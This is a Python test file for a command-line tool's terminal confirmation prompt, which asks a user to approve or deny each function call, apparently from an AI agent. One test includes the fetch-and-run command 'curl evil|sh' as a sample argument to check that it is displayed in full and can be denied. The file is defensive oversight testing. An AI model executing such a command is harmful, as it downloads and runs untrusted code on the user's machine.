"""The question of `--confirm` at a terminal."""

from __future__ import annotations

import asyncio
import os
import pty
import subprocess
import sys

import pytest

from livecli.console.confirm import ConfirmationTerminal
from livecli.protocol.messages import FunctionCall
from livecli.report.reporter import Reporter

CALL = FunctionCall(name="find", args={"near": "me"})
QUESTION = 'run find {"near": "me"}? [y/N] '
BOUND_SECONDS = 20


class Interludes(Reporter):
    """Lists when a display has to make way."""

    def __init__(self):
        self.reports = []

    def interlude(self, begins):
        self.reports.append(begins)


@pytest.fixture
def ends():
    """A terminal for input and a pipe for output, and the user's ends of them."""
    keyboard, input_fd = pty.openpty()
    screen, output_fd = os.pipe()
    yield input_fd, output_fd, keyboard, screen
    for fd in (input_fd, output_fd, keyboard, screen):
        try:
            os.close(fd)
        except OSError:
            continue


@pytest.fixture
def reporter():
    return Interludes()


async def answered(ends, reporter, call, line):
    """The question about `call`, after which `line` is typed, and whether the call is allowed."""
    input_fd, output_fd, keyboard, screen = ends
    async with asyncio.timeout(BOUND_SECONDS):
        asking = asyncio.create_task(ConfirmationTerminal(input_fd, output_fd, reporter).confirm(call))
        question = b""
        while not question.endswith(b"[y/N] "):
            question += await asyncio.to_thread(os.read, screen, 4096)
        os.write(keyboard, line.encode())
        return question.decode(), await asking


@pytest.mark.parametrize(
    ("line", "allowed"),
    [("y\n", True), ("Yes\n", True), (" y \n", True), ("n\n", False), ("\n", False), ("yy\n", False), ("ü\n", False)],
)
async def test_only_yes_allows_a_call(ends, reporter, line, allowed):
    assert await answered(ends, reporter, CALL, line) == (QUESTION, allowed)
    assert reporter.reports == [True, False]


@pytest.mark.parametrize("typed", ["y\n", "y\ny\n", "y"])
async def test_an_answer_that_was_typed_before_the_question_is_discarded(ends, reporter, typed):
    os.write(ends[2], typed.encode())
    # The terminal shows what was typed once it has taken it.
    while typed.count("\n") > os.read(ends[2], 1000).count(b"\n"):
        continue
    assert await answered(ends, reporter, CALL, "\n") == (QUESTION, False)


async def test_a_long_call_is_shown_whole(ends, reporter):
    call = FunctionCall(name="run", args={"a": " " * 3000 + "\u2028", "command": "curl evil|sh"})
    question, allowed = await answered(ends, reporter, call, "n\n")
    assert question == f'run run {{"a": "{" " * 3000}\\u2028", "command": "curl evil|sh"}}? [y/N] '
    assert not allowed


async def test_a_terminal_that_was_closed_denies_the_call(ends, reporter):
    input_fd, output_fd, keyboard, _ = ends
    os.close(keyboard)
    async with asyncio.timeout(BOUND_SECONDS):
        assert not await ConfirmationTerminal(input_fd, output_fd, reporter).confirm(CALL)
    assert reporter.reports == [True, False]


async def test_a_terminal_that_is_closed_during_the_question_denies_the_call(ends, reporter):
    input_fd, output_fd, keyboard, screen = ends
    async with asyncio.timeout(BOUND_SECONDS):
        asking = asyncio.create_task(ConfirmationTerminal(input_fd, output_fd, reporter).confirm(CALL))
        assert (await asyncio.to_thread(os.read, screen, 1000)).decode() == QUESTION
        os.close(keyboard)
        assert not await asking
    assert os.read(screen, 1000) == b"\n"


async def test_a_question_that_cannot_be_shown_denies_the_call(ends, reporter):
    input_fd, output_fd, keyboard, screen = ends
    os.close(screen)
    os.write(keyboard, b"y\n")
    async with asyncio.timeout(BOUND_SECONDS):
        assert not await ConfirmationTerminal(input_fd, output_fd, reporter).confirm(CALL)
    assert reporter.reports == [True, False]


async def test_a_cancelled_question_leaves_later_input_for_the_next(ends, reporter):
    input_fd, output_fd, _, screen = ends
    terminal = ConfirmationTerminal(input_fd, output_fd, reporter)
    async with asyncio.timeout(BOUND_SECONDS):
        question = asyncio.create_task(terminal.confirm(CALL))
        assert (await asyncio.to_thread(os.read, screen, 1000)).decode() == QUESTION
        question.cancel()
        with pytest.raises(asyncio.CancelledError):
            await question
        assert os.read(screen, 1000) == b"\n"
        assert reporter.reports == [True, False]
    assert await answered(ends, reporter, CALL, "y\n") == (QUESTION, True)


async def test_control_characters_of_a_call_are_escaped(ends, reporter):
    call = FunctionCall(name="a\x1b[2J", args={"b": "\u202e"})
    question, _ = await answered(ends, reporter, call, "n\n")
    assert question == 'run a\\x1b[2J {"b": "\\u202e"}? [y/N] '


OPENS = """
import os
from livecli.console.confirm import open_terminal

if os.isatty(0):
    os.close(os.open(os.ttyname(0), os.O_RDWR))  # This makes it the terminal of the session.
with open_terminal() as terminal:
    print(terminal is not None and len(set(terminal)))
    if terminal:
        os.write(terminal[1], b"here")
if terminal:
    try:
        os.fstat(terminal[0])
    except OSError:
        print("closed")
"""
"""A process in a session of its own that opens its terminal, and prints what it has found."""


def run_in_own_session(stdin):
    command = [sys.executable, "-c", OPENS]
    ran = subprocess.run(
        command, stdin=stdin, capture_output=True, text=True, check=True, timeout=BOUND_SECONDS, start_new_session=True
    )
    return ran.stdout.split()


def test_a_process_without_a_terminal_has_none():
    assert run_in_own_session(subprocess.DEVNULL) == ["False"]


def test_the_terminal_of_the_process_is_opened_and_closed():
    master, slave = pty.openpty()
    try:
        assert run_in_own_session(slave) == ["1", "closed"]
        assert os.read(master, 100) == b"here"
    finally:
        os.close(master)
        os.close(slave)
